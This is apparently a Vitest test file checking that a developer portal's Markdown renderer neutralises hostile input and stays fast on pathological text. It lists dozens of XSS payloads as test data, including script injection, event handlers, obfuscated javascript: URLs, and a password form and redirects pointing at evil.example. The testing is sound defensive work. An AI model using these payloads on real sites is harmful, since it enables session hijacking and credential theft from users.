// @vitest-environment jsdom
// What portal admins write is shown to developers: whatever it is, it runs nothing and loads nothing.
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { renderMarkdown } from '#server/features/products/markdown.ts'

const elements = new Set(
  'h2 h3 h4 h5 h6 p blockquote ul ol li hr br pre code strong em s a table thead tbody tr th td div'.split(' '),
)
const attributes = new Set(['href', 'rel', 'start', 'tabindex'])

const protocols = new Set(['https:', 'http:', 'mailto:'])

const parse = (html: string) => new DOMParser().parseFromString(html, 'text/html')

/** Reads HTML as a browser does, and says what of it is not on the list of what may be there. */
function findLive(html: string): string[] {
  const document = parse(`<main>${html}</main>`)
  const found: string[] = []
  const walker = document.createTreeWalker(document.querySelector('main')!, 1 | 128)
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    if (node.nodeType === 8) found.push('a comment')
    const element = node as Element
    const name = element.localName
    if (!elements.has(name)) found.push(`<${name}>`)
    for (const { name: attribute, value } of element.attributes ?? []) {
      if (!attributes.has(attribute)) found.push(`${name} ${attribute}=${value}`)
      const target = attribute === 'href' && URL.parse(value, 'https://portal.example')
      if (target && !protocols.has(target.protocol)) found.push(`${name} href=${value}`)
    }
  }
  // A main that was closed early would have left something beside it.
  if (document.body.children.length !== 1) found.push('something beside it')
  return found
}

const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<!-- --><script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '</main><script>alert(1)</script>',
  '<style>@import "https://evil.example"</style><link rel=stylesheet href=https://evil.example>',
  '<form action=https://evil.example><input name=password></form>',
  '<base href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))',
  '[x](\\x01javascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](\\\\evil.example)',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4=)',
  '![x](https://evil.example/pixel.gif "a\\" onload=\\"alert(1)")',
  '![" onerror="alert(1)](x)',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '[x][1]\n\n[1]: https://example.com "\\" onmouseover=\\"alert(1)"',
  '[a [b](javascript:alert(1))](https://example.com)',
  '[![x](javascript:alert(1))](javascript:alert(2))',
  '```"><script>alert(1)</script>\ncode\n```',
  '```html onload=alert(1)\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '<https://example.com/"onmouseover="alert(1)>',
  'https://example.com/"onmouseover="alert(1)',
  'javascript:alert(1)//https://example.com',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  '1. <script>\n   alert(1)\n   </script>',
  '# <img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u2028<script>alert(1)</script>\u2029',
  '<scr\0ipt>alert(1)</scr\0ipt>',
]

describe('hostile Markdown stays inert', () => {
  test.each(payloads)('%s', (payload) => expect(findLive(renderMarkdown(payload))).toEqual([]))

  test('in any mixture', { timeout: 60_000 }, () => {
    const piece = fc.oneof(
      fc.constantFrom(...payloads),
      fc.constantFrom(
        '[',
        ']',
        '(',
        ')',
        '!',
        '<',
        '>',
        '"',
        "'",
        '`',
        '\\',
        '\n\n',
        '    ',
        '|',
        '*',
        '_',
        '~~',
        '&',
        '#',
      ),
      fc.string({ unit: 'binary', maxLength: 6 }),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        expect(findLive(renderMarkdown(pieces.join('')))).toEqual([])
      }),
      { numRuns: 150 },
    )
  })

  test('and the judge is awake', () => {
    for (const html of [
      '<script>1</script>',
      '<p onclick=1>',
      '<a href="javascript:1">',
      '<a href="&#106;avascript:1">',
      '<a href="java\tscript:1">',
      '<a href=" data:text/html,x">',
      '<img src=x>',
      '<!-- -->',
      '</main><p>',
    ])
      expect(findLive(html), html).not.toEqual([])
  })
})

test('what is meant well is shown: headings one level down, code, tables, links, pictures as links', () => {
  const html = renderMarkdown(
    '# Title\n\n**bold** *it* ~~gone~~ <https://a.example> [b](/products/b) ![A boat](https://a.example/boat.png)\n\n' +
      '```\nGET /ships\n```\n\n| a |\n|---|\n| 1 |\n\n3. three',
  )
  const document = parse(html)
  expect(document.querySelector('h2')?.textContent).toBe('Title')
  expect([...document.querySelectorAll('a')].map((a) => [a.textContent, a.getAttribute('href'), a.rel])).toEqual([
    ['https://a.example', 'https://a.example', 'noopener nofollow'],
    ['b', '/products/b', 'noopener nofollow'],
    ['A boat', 'https://a.example/boat.png', 'noopener nofollow'],
  ])
  expect(document.querySelector('pre[tabindex="0"] code')?.textContent).toBe('GET /ships\n')
  expect(document.querySelector('td')?.textContent).toBe('1')
  expect(document.querySelector('ol')?.start).toBe(3)
})

const long = (piece: string) => piece.repeat(Math.floor(100_000 / piece.length))
test.each([
  ['quotes', long('>')],
  ['nested lists', Array.from({ length: 400 }, (_, n) => `${' '.repeat((n * 2) % 250)}- x`).join('\n')],
  ['brackets', long('[')],
  ['pictures', long('![')],
  ['unclosed links', long('[a](')],
  ['emphasis', long('*a_')],
  ['stars', long('*')],
  ['backticks', Array.from({ length: 440 }, (_, n) => '`'.repeat(n)).join(' ')],
  ['angle brackets', long('<')],
  ['comments', long('<!--')],
  ['entities', long('&#x6a')],
  ['references', long('[a]: b\n')],
  ['tables', `${long('|a')}\n${long('|-')}`.slice(0, 100_000)],
  ['addresses', long('http://a.example/')],
  ['almost addresses', long('www.a@')],
  ['dots', `a@${long('a.')}`],
  ['deep tags', long('<div>')],
])('100 kB of %s are rendered in a moment', { timeout: 60_000 }, (_, text) => {
  const before = process.cpuUsage()
  const html = renderMarkdown(text)
  const { user, system } = process.cpuUsage(before)
  // Of this process, in µs: the clock on the wall says nothing on a busy machine.
  expect(user + system).toBeLessThan(3_000_000)
  expect(html.length).toBeLessThan(20_000_000)
})
